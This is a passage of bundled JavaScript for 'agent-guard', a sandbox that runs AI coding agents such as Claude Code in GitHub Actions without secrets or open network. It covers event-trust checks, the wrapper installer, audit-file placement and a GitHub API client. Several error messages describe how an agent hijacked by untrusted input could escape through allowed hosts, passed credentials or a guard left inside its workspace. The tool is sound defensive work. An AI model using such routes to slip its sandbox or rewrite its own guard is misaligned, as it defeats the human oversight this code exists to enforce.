      if (WRITE_ONLY_EVENTS.has(upstream) || upstream === "pull_request") {
        return trusted(event, `the upstream run was a '${show(upstream)}' on a branch of this repository.`);
      }
      return untrusted(event, `the upstream run was fired by '${show(upstream, "an unknown event")}', whose input outsiders may write.`);
    }
    case "repository_dispatch":
      return untrusted(event, "'repository_dispatch' carries whatever payload the API caller chose.");
    case "merge_group":
      return untrusted(event, "'merge_group' runs pull-request code, which outsiders may have written.");
    default:
      return untrusted(event, `agent-guard does not know who can write the input of '${show(event)}' events, so it assumes anyone.`);
  }
}
function readTrustDecision(env) {
  const event = env.GITHUB_EVENT_NAME;
  if (!event) return decideTrust(void 0, void 0);
  const file = env.GITHUB_EVENT_PATH;
  if (!file) return untrusted(event, "GITHUB_EVENT_PATH is not set, so who wrote the input cannot be checked.");
  let text;
  try {
    text = import_node_fs11.default.readFileSync(file, "utf8");
  } catch (err) {
    return untrusted(event, `the event payload ${show(file)} cannot be read (${err.code ?? "error"}), so who wrote the input cannot be checked.`);
  }
  let payload;
  try {
    payload = JSON.parse(text);
  } catch {
    return untrusted(event, `the event payload ${show(file)} is not valid JSON, so who wrote the input cannot be checked.`);
  }
  return decideTrust(event, payload);
}
function untrustedRefusal(decision, opts, allowOnUntrusted, override) {
  if (!decision.untrusted || allowOnUntrusted) return void 0;
  const opened = [];
  if (opts.allowHosts.length) opened.push(`allow-hosts (${opts.allowHosts.map((h) => `${h.host}:${h.port}`).join(", ")})`);
  if (opts.passEnv.length) opened.push(`pass-env (${opts.passEnv.join(", ")})`);
  if (!opened.length) return void 0;
  return `refused: the input is untrusted (${decision.reason.replace(/\.$/, "")}), and ${opened.join(" and ")} would hand an agent hijacked by that input a way out or a credential; remove them, or set ${override} if you accept that`;
}

// src/guard/wrap.ts
var import_node_fs12 = __toESM(require("node:fs"));
var import_node_path8 = __toESM(require("node:path"));
init_errors();
init_options();
var WRAPPER_MARKER = "written by `agent-guard wrap claude`";
var WRAP_SYNOPSIS = "usage: agent-guard wrap claude [--install DIR] [--claude PATH] [--allow-on-untrusted] [-- GUARD_OPTION...]";
function shellQuote(s) {
  return `'${s.replace(/'/g, `'\\''`)}'`;
}
function renderClaudeWrapper(spec) {
  const words = [spec.node, spec.guard, "run", ...spec.guardArgs, "--", spec.claude].map(shellQuote);
  return [
    "#!/bin/sh",
    `# Claude Code under agent-guard, ${WRAPPER_MARKER}. The real claude runs in the jail: no`,
    "# secrets, no network but the Anthropic API through the guard's proxy, which holds the key.",
    `exec ${words.join(" ")} "$@"`,
    ""
  ].join("\n");
}
function isInside(child, parent) {
  const rel = import_node_path8.default.relative(parent, child);
  return rel === "" || !rel.startsWith("..") && !import_node_path8.default.isAbsolute(rel);
}
function realOrSelf(p) {
  try {
    return import_node_fs12.default.realpathSync(p);
  } catch {
    return import_node_path8.default.resolve(p);
  }
}
function isExecutableFile(p) {
  try {
    import_node_fs12.default.accessSync(p, import_node_fs12.default.constants.X_OK);
    return import_node_fs12.default.statSync(p).isFile();
  } catch {
    return false;
  }
}
function isWrapper(p) {
  try {
    const fd = import_node_fs12.default.openSync(p, "r");
    try {
      const buf = Buffer.alloc(512);
      const n = import_node_fs12.default.readSync(fd, buf, 0, buf.length, 0);
      return buf.subarray(0, n).toString("utf8").includes(WRAPPER_MARKER);
    } finally {
      import_node_fs12.default.closeSync(fd);
    }
  } catch {
    return false;
  }
}
function findRealClaude(pathEnv, exclude) {
  const skip = exclude.map(realOrSelf);
  for (const dir of (pathEnv ?? "").split(":")) {
    if (!import_node_path8.default.isAbsolute(dir) || skip.includes(realOrSelf(dir))) continue;
    const candidate = import_node_path8.default.join(dir, "claude");
    if (isExecutableFile(candidate) && !isWrapper(candidate)) return realOrSelf(candidate);
  }
  return void 0;
}
function parseWrapArgs(args) {
  const [agent, ...rest] = args;
  if (agent !== "claude") throw new GuardError("usage", `wrap supports claude only${agent ? `, not '${agent}'` : ""}. ${WRAP_SYNOPSIS}`);
  const out = { allowOnUntrusted: false, guardArgs: [] };
  for (let i = 0; i < rest.length; i++) {
    const arg = rest[i];
    if (arg === "--") {
      out.guardArgs = rest.slice(i + 1);
      break;
    }
    const eq = arg.indexOf("=");
    const flag = arg.startsWith("--") && eq > 0 ? arg.slice(0, eq) : arg;
    const value = () => {
      if (flag !== arg) return arg.slice(eq + 1);
      if (i + 1 >= rest.length) throw new GuardError("usage", `${flag} needs a value`);
      return rest[++i];
    };
    switch (flag) {
      case "--install":
        out.install = value();
        break;
      case "--claude":
        out.claude = value();
        break;
      case "--allow-on-untrusted":
        out.allowOnUntrusted = true;
        break;
      default:
        throw new GuardError("usage", `unknown option '${arg}' (guard options go after --). ${WRAP_SYNOPSIS}`);
    }
  }
  if (out.guardArgs.includes("--")) throw new GuardError("usage", "the guard options after -- cannot hold another --: the command is the real claude");
  return out;
}
function prepareClaudeWrapper(input, io) {
  const workspace2 = realOrSelf(io.env.GITHUB_WORKSPACE || io.cwd);
  const installDir = input.install ? import_node_path8.default.resolve(io.cwd, input.install) : void 0;
  if (installDir && isInside(realOrSelf(installDir), workspace2)) {
    throw new GuardError("usage", `--install ${installDir} is inside the workspace ${workspace2}, which the agent can write; install it outside (e.g. "$RUNNER_TEMP/agent-guard")`);
  }
  const guard = realOrSelf(import_node_path8.default.resolve(io.cwd, io.guard));
  if (!import_node_fs12.default.existsSync(guard)) throw new GuardError("usage", `cannot find the guard's own script at ${guard}`);
  if (isInside(guard, workspace2)) {
    throw new GuardError("usage", `agent-guard itself (${guard}) is inside the workspace ${workspace2}, which the agent can rewrite; install agent-guard outside it`);
  }
  const node = realOrSelf(io.node);
  if (isInside(node, workspace2)) throw new GuardError("usage", `node (${node}) is inside the workspace ${workspace2}, which the agent can rewrite`);
  let claude;
  if (input.claude) {
    claude = realOrSelf(import_node_path8.default.resolve(io.cwd, input.claude));
    if (!isExecutableFile(claude)) throw new GuardError("usage", `--claude ${claude} is not an executable file`);
    if (isWrapper(claude)) throw new GuardError("usage", `--claude ${claude} is an agent-guard wrapper, not Claude Code`);
  } else {
    claude = findRealClaude(io.env.PATH, installDir ? [installDir] : []);
    if (!claude) throw new GuardError("usage", "cannot find claude on PATH: install Claude Code first, or name it with --claude PATH");
  }
  const guardArgs = [...input.guardArgs];
  if (!guardArgs.some((a) => a === "--provider" || a.startsWith("--provider="))) guardArgs.unshift("--provider", "anthropic");
  const options = parseRunArgs([...guardArgs, "--", claude]);
  if (!options.providers.some((p) => p.name === "anthropic")) {
    throw new GuardError("usage", "Claude Code talks to the Anthropic API: the guard options must include --provider anthropic");
  }
  if (io.env.GITHUB_ACTIONS === "true") {
    const refusal = untrustedRefusal(readTrustDecision(io.env), options, input.allowOnUntrusted, "--allow-on-untrusted");
    if (refusal) throw new GuardError("usage", refusal);
  }
  const spec = { node, guard, claude, guardArgs };
  return { spec, options, text: renderClaudeWrapper(spec) };
}
function installWrapper(dir, text) {
  import_node_fs12.default.mkdirSync(dir, { recursive: true, mode: 493 });
  const target = import_node_path8.default.join(dir, "claude");
  const tmp = import_node_path8.default.join(dir, `.claude.${process.pid}.tmp`);
  import_node_fs12.default.writeFileSync(tmp, text, { mode: 493 });
  import_node_fs12.default.chmodSync(tmp, 493);
  import_node_fs12.default.renameSync(tmp, target);
  return target;
}
function wrapMain(args, io) {
  try {
    const parsed = parseWrapArgs(args);
    const prepared = prepareClaudeWrapper(parsed, io);
    if (!parsed.install) {
      io.stdout.write(prepared.text);
      return 0;
    }
    const target = installWrapper(import_node_path8.default.resolve(io.cwd, parsed.install), prepared.text);
    io.stdout.write(`${target}
`);
    io.stderr.write(`agent-guard: wrapper installed: ${target} runs ${prepared.spec.claude} under the guard; set path_to_claude_code_executable to it
`);
    return 0;
  } catch (err) {
    if (err instanceof GuardError) io.stderr.write(`agent-guard: ${err.message}
`);
    else io.stderr.write(`agent-guard: cannot write the wrapper: ${err.message}
`);
    return GUARD_FAILURE_EXIT;
  }
}

// src/action/run.ts
var OVERRIDE = "allow-on-untrusted: true";
var RUN_SHELL = ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c"];
function guardArgsFromInputs(ctx, defaultProviders = []) {
  const args = [];
  const providers = getListInput(ctx, "providers");
  for (const p of providers.length ? providers : defaultProviders) args.push("--provider", p);
  for (const h of getListInput(ctx, "allow-hosts")) args.push("--allow-host", h);
  for (const n of getListInput(ctx, "pass-env")) args.push("--pass-env", n);
  args.push("--workspace", getChoiceInput(ctx, "workspace", ["rw", "ro"], "rw"));
  const maxRequests = getPositiveIntInput(ctx, "max-requests");
  if (maxRequests !== void 0) args.push("--max-requests", String(maxRequests));
  const maxTokens = getPositiveIntInput(ctx, "max-tokens");
  if (maxTokens !== void 0) args.push("--max-tokens", String(maxTokens));
  const timeout = getPositiveIntInput(ctx, "timeout");
  if (timeout !== void 0) args.push("--timeout", String(timeout));
  const audit = auditFile(ctx);
  if (audit) args.push("--audit", audit);
  return args;
}
var DEFAULT_AUDIT_NAME = "agent-guard-audit.jsonl";
function auditFile(ctx) {
  const input = getInput(ctx, "audit");
  if (input === "false") return void 0;
  const given = input === "true" ? "" : input;
  const temp = ctx.env.RUNNER_TEMP;
  if (!given && !temp) return void 0;
  const file = import_node_path9.default.resolve(ctx.cwd, given || import_node_path9.default.join(temp, DEFAULT_AUDIT_NAME));
  for (const workspace2 of [ctx.cwd, ctx.env.GITHUB_WORKSPACE]) {
    if (!workspace2) continue;
    const rel = import_node_path9.default.relative(import_node_path9.default.resolve(workspace2), file);
    if (!rel.startsWith("..") && !import_node_path9.default.isAbsolute(rel)) {
      throw new InputError(`input 'audit': ${file} is inside the workspace, where the agent could rewrite it; name a file under $RUNNER_TEMP, or leave it empty`);
    }
  }
  return file;
}
function trustSummary(decision) {
  const verdict = decision.untrusted ? "untrusted (outsider-controlled)" : "trusted";
  return `### agent-guard: triggering input ${verdict}

${md(decision.reason)}

`;
}
function announce(ctx, decision) {
  ctx.stderr.write(`agent-guard: triggering input is ${decision.untrusted ? "untrusted" : "trusted"}: ${decision.reason}
`);
  setOutputs(ctx, { untrusted: String(decision.untrusted) });
  appendSummary(ctx, trustSummary(decision));
}
function fail(ctx, message) {
  ctx.stderr.write(`agent-guard: ${message}
`);
  ctx.stdout.write(errorCommand(message));
  appendSummary(ctx, `**Not run:** ${md(message)}
`);
  return GUARD_FAILURE_EXIT;
}
function guardFailure(err) {
  if (err instanceof GuardError) return `${err.layer === "usage" ? "" : `${err.layer} layer: `}${err.message}`;
  if (err instanceof InputError) return err.message;
  return `internal error: ${err?.message ?? String(err)}`;
}
async function actionRun(ctx) {
  const decision = readTrustDecision(ctx.env);
  announce(ctx, decision);
  let opts;
  try {
    const command2 = getInput(ctx, "run");
    if (!command2) throw new InputError("input 'run' is empty: give the agent's command line");
    if (!getListInput(ctx, "providers").length) {
      throw new InputError("input 'providers' is empty: name the model provider(s) the agent calls (anthropic, openai, gemini, github-models, openrouter)");
    }
    opts = parseRunArgs([...guardArgsFromInputs(ctx), "--", ...RUN_SHELL, command2]);
    const refusal = untrustedRefusal(decision, opts, getBooleanInput(ctx, "allow-on-untrusted", false), OVERRIDE);
    if (refusal) return fail(ctx, refusal);
  } catch (err) {
    return fail(ctx, guardFailure(err));
  }
  try {
    const { exitCode, audit } = await runGuarded(opts, { stdout: ctx.stdout, stderr: ctx.stderr, env: withoutInputs(ctx.env), cwd: ctx.cwd });
    ctx.stderr.write(`${audit.summaryLine(exitCode)}
`);
    appendSummary(ctx, audit.stepSummaryMarkdown(exitCode));
    setOutputs(ctx, { "exit-code": String(exitCode), ...opts.auditFile ? { "audit-file": opts.auditFile } : {} });
    return exitCode;
  } catch (err) {
    return fail(ctx, guardFailure(err));
  }
}
function actionWrap(ctx, self) {
  const decision = readTrustDecision(ctx.env);
  announce(ctx, decision);
  try {
    const temp = ctx.env.RUNNER_TEMP;
    if (!temp) throw new InputError("RUNNER_TEMP is not set: mode wrap installs the wrapper there, out of the agent's reach");
    const allowOnUntrusted = getBooleanInput(ctx, "allow-on-untrusted", false);
    const guardArgs = guardArgsFromInputs(ctx, ["anthropic"]);
    const prepared = prepareClaudeWrapper(
      { claude: getInput(ctx, "claude") || void 0, guardArgs, allowOnUntrusted: true },
      { env: withoutInputs(ctx.env), cwd: ctx.cwd, node: self.node, guard: self.guard }
    );
    const refusal = untrustedRefusal(decision, prepared.options, allowOnUntrusted, OVERRIDE);
    if (refusal) return fail(ctx, refusal);
    const target = installWrapper(import_node_path9.default.join(temp, "agent-guard"), prepared.text);
    ctx.stderr.write(`agent-guard: wrapper installed: ${target} runs ${prepared.spec.claude} under the guard
`);
    const audit = prepared.options.auditFile;
    setOutputs(ctx, { "claude-wrapper": target, ...audit ? { "audit-file": audit } : {} });
    appendSummary(ctx, `Claude Code wrapper: <code>${md(target)}</code> runs <code>${md(prepared.spec.claude)}</code> under the guard.
`);
    return 0;
  } catch (err) {
    return fail(ctx, guardFailure(err));
  }
}

// src/action/index.ts
var ACTION_MODES = ["lint", "run", "wrap"];
async function actionMain(args, ctx, self) {
  const [mode, ...rest] = args;
  const fail2 = (message) => {
    ctx.stderr.write(`agent-guard: ${message}
`);
    ctx.stdout.write(errorCommand(message));
    return 2;
  };
  if (rest.length) return fail2(`action ${mode} takes no arguments; it reads its INPUT_* variables`);
  try {
    switch (mode) {
      case "lint":
        return actionLint(ctx, self.version);
      case "run":
        return await actionRun(ctx);
      case "wrap":
        return actionWrap(ctx, self);
      default:
        return fail2(`input 'mode' must be one of ${ACTION_MODES.join(", ")}, not '${printable(String(mode ?? ""))}'`);
    }
  } catch (err) {
    if (err instanceof InputError || err instanceof ConfigError) return fail2(err.message);
    return fail2(`internal error: ${err?.message ?? String(err)}`);
  }
}

// src/cli.ts
init_command();

// src/parallel.ts
var import_node_os4 = __toESM(require("node:os"));
var import_node_worker_threads = require("node:worker_threads");
var PARALLEL_THRESHOLD = 256;
var MESSAGE_KIND = "agent-guard-lint-share";
async function lintInParallel(options, entryScript, workers = defaultWorkers()) {
  if (options.remote || options.files || options.only || workers < 2) return lint(options);
  const files = discover(options.paths, []).flatMap((set) => set.files);
  if (files.length < PARALLEL_THRESHOLD) return lint(options);
  const shares = Array.from({ length: workers }, () => []);
  files.forEach((f, i) => shares[i % workers].push(f));
  try {
    const running = Promise.all(
      shares.slice(1).map((only) => runShare(entryScript, { kind: MESSAGE_KIND, paths: options.paths, cwd: options.cwd, config: options.config, only }))
    );
    running.catch(() => void 0);
    const own = lint({ ...options, only: new Set(shares[0]) });
    return mergeResults([own, ...await running]);
  } catch {
    return lint(options);
  }
}
function defaultWorkers() {
  const forced = Number(process.env.AGENT_GUARD_THREADS);
  if (Number.isInteger(forced) && forced >= 1) return Math.min(forced, 16);
  const cores = typeof import_node_os4.default.availableParallelism === "function" ? import_node_os4.default.availableParallelism() : import_node_os4.default.cpus().length;
  return Math.max(1, Math.min(cores, 8));
}
function runShare(entryScript, share) {
  return new Promise((resolve3, reject) => {
    const worker = new import_node_worker_threads.Worker(entryScript, { workerData: share });
    worker.once("message", (wire) => resolve3({ ...wire, sources: new Map(wire.sources) }));
    worker.once("error", reject);
    worker.once("exit", (code3) => {
      if (code3 !== 0) reject(new Error(`lint worker exited ${code3}`));
    });
  });
}
function serveShareIfWorker() {
  if (import_node_worker_threads.isMainThread || !import_node_worker_threads.parentPort || import_node_worker_threads.workerData?.kind !== MESSAGE_KIND) return false;
  const share = import_node_worker_threads.workerData;
  const result = lint({ paths: share.paths, cwd: share.cwd, config: share.config, only: new Set(share.only) });
  const wire = { ...result, sources: [...result.sources] };
  import_node_worker_threads.parentPort.postMessage(wire);
  return true;
}

// src/online/command.ts
var import_node_fs15 = __toESM(require("node:fs"));

// src/online/prefetch.ts
var import_node_fs13 = __toESM(require("node:fs"));
var import_node_path10 = __toESM(require("node:path"));

// src/online/github.ts
var import_core = __toESM(require_dist_node8());
var GitHubError = class extends Error {
  constructor(kind, message, status) {
    super(message);
    this.kind = kind;
    this.status = status;
  }
  kind;
  status;
};
var DEFAULT_API_URL = "https://api.github.com";
var SILENT = { debug() {
}, info() {
}, warn() {
}, error() {
} };
var GitHubClient = class {
  constructor(options) {
    this.options = options;
    this.baseUrl = (options.baseUrl || DEFAULT_API_URL).replace(/\/+$/, "");
    this.authenticated = !!options.token;
    this.octokit = new import_core.Octokit({ auth: options.token || void 0, baseUrl: this.baseUrl, userAgent: options.userAgent ?? "agent-guard", log: SILENT });
    this.gate = new Semaphore(Math.max(1, options.concurrency ?? 8));
    this.perPage = Math.min(100, Math.max(1, options.perPage ?? 100));
    this.log = options.log ?? (() => {
    });
    this.sleep = options.sleep ?? ((ms) => new Promise((resolve3) => setTimeout(resolve3, ms)));
    this.waitBudgetMs = options.maxWaitMs ?? 15 * 6e4;
  }
  options;
  stats = { requests: 0, notModified: 0, rateLimited: 0, waitedMs: 0, truncatedTrees: 0 };
  baseUrl;
  authenticated;
  octokit;
  gate;
  memo = /* @__PURE__ */ new Map();
  perPage;
  log;
  sleep;
  waitBudgetMs;
  waiting = null;
  stopped = null;
  /** Last `x-ratelimit-*` seen, for messages. */
  limit = {};
  get cache() {
    return this.options.cache;
  }
  /** A ref (branch, tag, short or full SHA) → the full commit SHA. */
  resolveRef(owner, repo, ref) {
    if (isCommitSha(ref)) return Promise.resolve(ref.toLowerCase());
    const key2 = `${repoKey(owner, repo)}@${ref}`;
    return this.once(`ref:${key2}`, async () => {
      const cached3 = this.cache.get("ref", key2);
      const what = `${owner}/${repo}@${ref}`;
      const res = await this.request(
        "GET /repos/{owner}/{repo}/commits/{ref}",
        { owner, repo, ref, headers: { accept: "application/vnd.github.sha", ...cached3 ? { "if-none-match": cached3.etag } : {} } },
        what
      );
      if (res.status === 304 && cached3) return cached3.sha;
      const sha = textOf(res.data).trim().toLowerCase();
      if (!isCommitSha(sha)) throw new GitHubError("invalid", `${what}: GitHub did not answer with a commit SHA`);
      if (res.headers.etag) this.cache.set("ref", key2, { sha, etag: res.headers.etag });
      return sha;
    });
  }
  /** A file's text at a commit; null when the commit has no such file. */
  fileAt(owner, repo, sha, path14) {
    const key2 = `${repoKey(owner, repo)}@${sha}:${path14}`;
    return this.once(`content:${key2}`, async () => {
      const cached3 = this.cache.get("content", key2);
      if (cached3) return "text" in cached3 ? cached3.text : null;
      let text;
      try {
        const res = await this.request(
          "GET /repos/{owner}/{repo}/contents/{path}",
          { owner, repo, path: path14, ref: sha, headers: { accept: "application/vnd.github.raw" } },
          `${owner}/${repo}/${path14}@${sha.slice(0, 7)}`
        );
        text = typeof res.data === "string" || res.data instanceof ArrayBuffer ? textOf(res.data) : null;
      } catch (err) {
        if (!(err instanceof GitHubError) || err.kind !== "not-found") throw err;
        text = null;
      }
      this.cache.set("content", key2, text === null ? { missing: true } : { text });
      return text;
    });
  }
  /** The repositories of an organisation (or, failing that, of a user), every page. */
  listRepositories(org) {
    return this.once(`list:${org.toLowerCase()}`, async () => {
      try {
        return await this.listPages("GET /orgs/{org}/repos", { org, type: "all" }, `orgs/${org.toLowerCase()}/repos`, `organisation ${org}`);
      } catch (err) {
        if (!(err instanceof GitHubError) || err.kind !== "not-found") throw err;
      }
      try {
        return await this.listPages("GET /users/{username}/repos", { username: org, type: "owner" }, `users/${org.toLowerCase()}/repos`, `user ${org}`);
      } catch (err) {
        if (err instanceof GitHubError && err.kind === "not-found") throw new GitHubError("not-found", `no organisation or user '${org}' (404)`, 404);
        throw err;
      }
    });
  }
  /**
   * The commit at the head of a repository's default branch. The listing's `pushed_at` changes with
   * every push, so while it is unchanged the commit found last time is still the head: no request.
   */
  async headOf(repo) {
    const key2 = `${repoKey(repo.owner, repo.name)}#${repo.defaultBranch}`;
    const cached3 = this.cache.get("head", key2);
    if (cached3 && repo.pushedAt && cached3.pushedAt === repo.pushedAt) return cached3.sha;
    const sha = await this.resolveRef(repo.owner, repo.name, repo.defaultBranch);
    if (repo.pushedAt) this.cache.set("head", key2, { pushedAt: repo.pushedAt, sha });
    return sha;
  }
  /**
   * The YAML files of a commit, from the recursive git tree: the workflows (`.github/workflows/*.yml`)
   * and every `*.yml`/`*.yaml` with its blob SHA, so that local actions are known present or absent
   * without a request. When GitHub truncates the tree (very large repositories) the workflows folder
   * is listed through the contents API instead, and other files are looked up one by one.
   */
  treeOf(owner, repo, sha) {
    const key2 = `${repoKey(owner, repo)}@${sha}`;
    return this.once(`tree:${key2}`, async () => {
      const cached3 = this.cache.get("tree", key2);
      if (cached3) return cached3;
      const what = `${owner}/${repo}@${sha.slice(0, 7)}`;
      const res = await this.request("GET /repos/{owner}/{repo}/git/trees/{tree_sha}", { owner, repo, tree_sha: sha, recursive: "1" }, what);
      const data = res.data;
      const blobs = {};
      for (const e of data.tree ?? []) {
        if (e.type === "blob" && typeof e.path === "string" && typeof e.sha === "string" && /\.ya?ml$/i.test(e.path)) blobs[e.path] = e.sha;
      }
      let tree;
      if (data.truncated) {
        this.stats.truncatedTrees++;
        tree = { complete: false, workflows: await this.listWorkflowsDir(owner, repo, sha, what), blobs: {} };
      } else {
        tree = { complete: true, workflows: Object.keys(blobs).filter(isWorkflowPath).sort().map((path14) => ({ path: path14, sha: blobs[path14] })), blobs };
      }
      this.cache.set("tree", key2, tree);
      return tree;
    });
  }
  /**
   * A file by its blob SHA. Content-addressed, so identical files (an organisation's templated
   * workflows) are fetched once across every repository and kept forever.
   */
  blob(owner, repo, sha) {
    const key2 = `blob:${sha.toLowerCase()}`;
    return this.once(key2, async () => {
      const cached3 = this.cache.get("content", key2);
      if (cached3) return cached3.text;
      const res = await this.request("GET /repos/{owner}/{repo}/git/blobs/{file_sha}", { owner, repo, file_sha: sha, headers: { accept: "application/vnd.github.raw" } }, `${owner}/${repo} blob ${sha.slice(0, 7)}`);
      let text;
      if (typeof res.data === "string" || res.data instanceof ArrayBuffer) text = textOf(res.data);
      else {
        const json = res.data;
        text = typeof json.content === "string" && json.encoding === "base64" ? Buffer.from(json.content, "base64").toString("utf8") : "";
      }
      this.cache.set("content", key2, { text });
      return text;
    });
  }
  async listWorkflowsDir(owner, repo, sha, what) {
    try {
      const res = await this.request("GET /repos/{owner}/{repo}/contents/{path}", { owner, repo, path: ".github/workflows", ref: sha }, what);
      const entries = Array.isArray(res.data) ? res.data : [];
      return entries.filter((e) => e.type === "file" && typeof e.path === "string" && typeof e.sha === "string" && isWorkflowPath(e.path)).map((e) => ({ path: e.path, sha: e.sha })).sort((a, b) => a.path < b.path ? -1 : 1);
    } catch (err) {
      if (err instanceof GitHubError && err.kind === "not-found") return [];
      throw err;
    }
  }
  async listPages(route, params, key2, what) {
    const out = [];
    for (let page = 1; page <= 1e3; page++) {
      const pageKey = `${key2}?per_page=${this.perPage}&page=${page}`;
      const cached3 = this.cache.get("list", pageKey);
      const res = await this.request(route, { ...params, per_page: this.perPage, page, headers: cached3 ? { "if-none-match": cached3.etag } : {} }, what);
      let items;
      let next;
      if (res.status === 304 && cached3) {
        items = cached3.items;
        next = cached3.next;
      } else {
        if (!Array.isArray(res.data)) throw new GitHubError("invalid", `${what}: GitHub did not answer with a list of repositories`);
        items = res.data.map(repoInfo).filter((r) => !!r);
        next = /<[^>]+>;\s*rel="next"/.test(res.headers.link ?? "");
        if (res.headers.etag) this.cache.set("list", pageKey, { etag: res.headers.etag, items, next });
      }
      out.push(...items);
      if (!next) break;
    }
    return out;
  }
  once(key2, make) {
    let p = this.memo.get(key2);
    if (!p) this.memo.set(key2, p = make());
    return p;
  }
  /** One request through the semaphore, with rate-limit handling and one retry on network and 5xx errors. */
  async request(route, params, what) {
    for (let attempt = 0; ; attempt++) {
      if (this.stopped) throw new GitHubError("rate-limit", this.stopped, 403);
      await this.gate.acquire();
      let failure;
      try {
        if (this.stopped) throw new GitHubError("rate-limit", this.stopped, 403);
        this.stats.requests++;
        const res = await this.octokit.request(route, params);
        const headers2 = res.headers;
        this.noteLimits(headers2);
        return { status: res.status, data: res.data, headers: headers2 };
      } catch (err) {
        if (err instanceof GitHubError) throw err;
        failure = err;
      } finally {
        this.gate.release();
      }
      const response = failure.response;
      const status = response?.status ?? failure.status ?? 0;
      const headers = response?.headers ?? {};
      if (response) this.noteLimits(headers);
      if (status === 304) {
        this.stats.notModified++;
        return { status, data: void 0, headers };
      }
      const message = cleanMessage(failure.message ?? "");
      if (!response) {
        if (attempt < 1) {
          await this.sleep(300);
          continue;
        }
        throw new GitHubError("network", `cannot reach ${this.baseUrl}: ${message || "network error"}`);
      }
      if (isRateLimited(status, headers, message)) {
        this.stats.rateLimited++;
        await this.onRateLimit(headers);
        continue;
      }
      if (status >= 500 && attempt < 1) {
        await this.sleep(500);
        continue;
      }
      throw classify2(status, message, what, this.authenticated);
    }
  }
  noteLimits(headers) {
    if (headers["x-ratelimit-remaining"] === void 0) return;
    const reset = Number(headers["x-ratelimit-reset"]);
    this.limit = { limit: headers["x-ratelimit-limit"], remaining: headers["x-ratelimit-remaining"], reset: Number.isFinite(reset) ? reset : void 0 };
  }
  /** Waits for the reset (sharing one wait among every request that hit the limit), or stops. */
  async onRateLimit(headers) {
    if (this.stopped) throw new GitHubError("rate-limit", this.stopped, 403);
    const retryAfter = Number(headers["retry-after"]);
    const reset = Number(headers["x-ratelimit-reset"]);
    const now = Date.now();
    const waitMs = Number.isFinite(retryAfter) && retryAfter >= 0 ? retryAfter * 1e3 : Number.isFinite(reset) ? Math.max(0, reset * 1e3 - now) + 1e3 : 6e4;
    const resetAt = new Date(now + waitMs);
    const secondary = Number.isFinite(retryAfter) && headers["x-ratelimit-remaining"] !== "0";
    const limit2 = headers["x-ratelimit-limit"] ?? this.limit.limit;
    const reached = secondary ? "GitHub API secondary rate limit reached" : `GitHub API rate limit reached${limit2 ? ` (${limit2} requests an hour${this.authenticated ? "" : " without a token"})` : ""}`;
    const when = `it ${secondary ? "lifts" : "resets"} at ${resetAt.toISOString().slice(11, 19)} UTC, in ${duration(waitMs)}`;
    if (this.options.onRateLimit === "stop" || waitMs > this.waitBudgetMs) {
      const why = this.options.onRateLimit === "stop" ? "stopped (--on-rate-limit stop; use --on-rate-limit wait to wait for it)" : `stopped: waiting would take longer than the ${duration(this.options.maxWaitMs ?? 15 * 6e4)} allowed`;
      const hint = this.authenticated ? "" : "; set GITHUB_TOKEN or GH_TOKEN for 5000 requests an hour";
      this.stopped = `${reached}; ${when}; ${why}${hint}`;
      this.log(this.stopped);
      throw new GitHubError("rate-limit", this.stopped, 403);
    }
    if (!this.waiting) {
      this.log(`${reached}; waiting ${duration(waitMs)} until ${resetAt.toISOString().slice(11, 19)} UTC (--on-rate-limit wait; Ctrl-C to stop)`);
      this.waitBudgetMs -= waitMs;
      this.stats.waitedMs += waitMs;
      this.waiting = this.sleep(waitMs).finally(() => {
        this.waiting = null;
      });
    }
    await this.waiting;
  }
};
function isRateLimited(status, headers, message) {
  if (status === 429) return true;
  if (status !== 403) return false;
  return headers["x-ratelimit-remaining"] === "0" || headers["retry-after"] !== void 0 || /rate limit/i.test(message);
}
function classify2(status, message, what, authenticated) {
  const detail = message ? `: ${message}` : "";
  switch (status) {
    case 401:
      return new GitHubError("auth", `bad credentials (401): check GITHUB_TOKEN or GH_TOKEN`, status);
    case 403:
      return new GitHubError("forbidden", `${what}: forbidden (403)${detail}`, status);
    case 404:
      return new GitHubError(
        "not-found",
        `${what}: not found (404): it does not exist, or it is private and ${authenticated ? "the token cannot read it" : "no token was given (GITHUB_TOKEN or GH_TOKEN)"}`,
        status
      );
    case 409:
      return new GitHubError("empty", `${what}: the repository is empty (409)`, status);
    case 422:
      return new GitHubError("not-found", `${what}: not found (422)${detail}`, status);
    default:
      return new GitHubError("server", `${what}: GitHub answered ${status}${detail}`, status);
  }
}
function cleanMessage(message) {
  return message.replace(/\s+-\s+https?:\/\/\S+$/, "").replace(/\s+/g, " ").trim().slice(0, 200);
}
function textOf(data) {
  if (typeof data === "string") return data;
  if (data instanceof ArrayBuffer) return Buffer.from(data).toString("utf8");
  return "";
}
function repoInfo(r) {
  const fullName = typeof r.full_name === "string" ? r.full_name : null;
  if (!fullName || !fullName.includes("/")) return null;
  const [owner, name] = fullName.split("/");
  return {
    owner,
    name,
    fullName,
    defaultBranch: typeof r.default_branch === "string" && r.default_branch ? r.default_branch : "main",
    archived: r.archived === true,
    fork: r.fork === true,
    private: r.private === true,
    disabled: r.disabled === true,
    pushedAt: typeof r.pushed_at === "string" ? r.pushed_at : null,
    htmlUrl: typeof r.html_url === "string" ? r.html_url : `https://github.com/${fullName}`
  };
}
function duration(ms) {
  const s = Math.ceil(ms / 1e3);
  if (s < 60) return `${s}s`;
  const m = Math.floor(s / 60);
  if (m < 60) return `${m}m${String(s % 60).padStart(2, "0")}s`;
  return `${Math.floor(m / 60)}h${String(m % 60).padStart(2, "0")}m`;
}
var Semaphore = class {
  constructor(size) {
    this.size = size;
  }
  size;
  active = 0;
  queue = [];
  acquire() {
    if (this.active < this.size) {
      this.active++;
      return Promise.resolve();
    }
    return new Promise((resolve3) => this.queue.push(resolve3));
  }
  release() {
    const next = this.queue.shift();
    if (next) next();
    else this.active--;
  }
};

// src/online/prefetch.ts
var DEFAULT_MAX_DEPTH = 4;
var RemoteStore = class {
  constructor(client) {
    this.client = client;
  }
  client;
  memo = /* @__PURE__ */ new Map();
  get(kind, uses) {
    const key2 = `${kind}:${uses}`;
    let got = this.memo.get(key2);
    if (!got) this.memo.set(key2, got = this.fetch(kind, uses));
    return got;
  }
  /** How many distinct remote files were asked for, and how many could not be read. */
  get counts() {
    return { asked: this.memo.size };
  }
  async fetch(kind, uses) {
    const ref = parseRemoteUses(uses);
    if (!ref) return { ok: false, error: `cannot follow '${uses}': not an owner/repo[/path]@ref reference` };
